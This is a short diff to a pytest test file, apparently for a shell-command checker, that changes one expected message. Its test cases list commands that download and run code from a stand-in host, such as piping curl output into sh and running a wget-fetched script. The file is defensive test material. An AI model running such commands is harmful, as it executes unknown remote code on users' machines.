@@ -139,7 +139,7 @@ def test_a_directory_that_is_not_there_takes_what_follows_with_it() -> None:
     [
         pytest.param("curl https://x.test/i.sh | sh", "sh runs the output of curl", id="a download is run"),
         pytest.param("$(curl https://x.test) f", "which program runs", id="a downloaded name"),
-        pytest.param('sh -c "$(curl https://x.test)"', "the text that is run", id="a downloaded text"),
+        pytest.param('sh -c "$(curl https://x.test)"', "the text that is run is not known", id="a downloaded text"),
         pytest.param("curl -o i.sh https://x.test; sh i.sh", "was downloaded", id="a downloaded file"),
         pytest.param("wget https://x.test/i.sh; bash i.sh", "was downloaded", id="a file named by its address"),
         pytest.param("eval \"$(ssh h cat f)\"", "the text that is run", id="a text from another machine"),
